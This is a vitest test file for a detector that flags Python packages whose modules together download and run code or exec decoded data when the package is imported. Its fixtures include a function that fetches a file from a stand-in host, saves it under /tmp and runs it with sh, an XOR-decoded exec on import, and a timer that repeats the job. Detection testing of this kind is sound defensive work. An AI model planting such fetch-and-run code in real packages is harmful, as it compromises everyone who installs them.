import { expect, test } from 'vitest';
import { FETCHES, foundIn, STARTS } from './found-in.js';

/** So many modules that say nothing, as a real package has them. */
const others = (count: number): Record<string, string> => Object.fromEntries(Array.from({ length: count }, (_, index) => [`plot/lib/m${index}.py`, 'def area(width, height):\n    return width * height\n']));
const GLUE = 'from .fetching import fetch\nfrom .starting import launch\n\nlaunch(fetch())\n';
const HALVES = { 'plot/fetching.py': FETCHES, 'plot/starting.py': STARTS, 'plot/lib/__init__.py': '' };

test('what one of many modules fetches and another starts is one behaviour where a third brings them together on import', async () => {
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': GLUE })).toEqual(['critical plot/starting.py']);
});

test('the same where the module that does it is imported by the package', async () => {
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': 'from . import setup_plot\n', 'plot/setup_plot.py': GLUE })).toEqual(['critical plot/starting.py']);
});

test('the same by a class that is made on import, in several lines of imports', async () => {
  const session = 'from .fetching import (\n    fetch,\n)\nfrom .starting import launch\n\n\nclass Session:\n    def __init__(self):\n        launch(fetch())\n\n\nDEFAULT = Session()\n';
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': 'from .client import Session\n', 'plot/client.py': session })).toEqual(['critical plot/starting.py']);
});

test('the same where the package itself starts the class that brings them together', async () => {
  const runner = 'from .fetching import fetch\nfrom .starting import launch\n\n\nclass Runner:\n    def run(self):\n        launch(fetch())\n';
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': 'from .runner import Runner\n\nRunner().run()\n', 'plot/runner.py': runner })).toEqual(['critical plot/starting.py']);
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': 'from .runner import Runner\n\nRUNNER = Runner\n', 'plot/runner.py': runner })).toEqual([]);
});

test('halves that nothing brings together are no behaviour', async () => {
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': 'from .fetching import fetch\nfrom .starting import launch\n' })).toEqual([]);
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': '', 'plot/grow.py': GLUE.replace('launch(fetch())', 'def grow():\n    launch(fetch())') })).toEqual([]);
});

test('in tests that lie beside the package nothing is brought together for its users', async () => {
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': '', 'plot/tests/__init__.py': '', 'plot/tests/test_all.py': GLUE.replaceAll('from .', 'from plot.') })).toEqual([]);
});

test('a decoder in one module and exec in another are met, though neither says anything by itself', async () => {
  const cipher = 'def turn(data):\n    out = bytearray()\n    for byte in data:\n        out.append(byte ^ 7)\n    return bytes(out)\n';
  expect(await foundIn({ ...others(30), 'plot/lib/__init__.py': '', 'plot/_cipher.py': cipher, 'plot/_data.py': 'DATA = b"wunis/v~"\n', 'plot/__init__.py': 'from ._cipher import turn\nfrom ._data import DATA\nexec(turn(DATA).decode())\n' }, 'exec-of-decoded-data')).toEqual(['critical plot/__init__.py']);
});

test('the same by a class that is a table of fields, and does it as soon as those are there', async () => {
  const session = 'from dataclasses import dataclass\nimport requests\nfrom .fetching import fetch\nfrom .starting import launch\n\n\n@dataclass\nclass Session:\n    name: str = ""\n\n    def __post_init__(self):\n        launch(fetch())\n';
  expect(await foundIn({ ...others(30), ...HALVES, 'plot/__init__.py': 'from .client import Session\n\nDEFAULT = Session()\n', 'plot/client.py': session })).toEqual(['critical plot/starting.py']);
});

const EVERY = 'import threading\n\n\ndef every(seconds, job):\n    def again():\n        job()\n    threading.Timer(seconds, again).start()\n';
const WHOLE = `import subprocess\nimport urllib.request\n\n\ndef update():\n    with open("/tmp/.part", "wb") as stream:\n        stream.write(urllib.request.urlopen("https://example.invalid/part").read())\n    subprocess.Popen(["sh", "/tmp/.part"])\n`;

test('what one module does by itself is met where the package hands it to a clock of another', async () => {
  const files = { ...others(30), 'plot/lib/__init__.py': '', 'plot/clock.py': EVERY, 'plot/update.py': WHOLE };
  expect(await foundIn({ ...files, 'plot/__init__.py': 'from .clock import every\nfrom .update import update\n\nevery(5, update)\n' })).toContain('critical plot/update.py');
  expect(await foundIn({ ...files, 'plot/__init__.py': 'from .clock import every\nfrom .update import update\n\nevery(5, print)\n' })).not.toContain('critical plot/update.py');
});
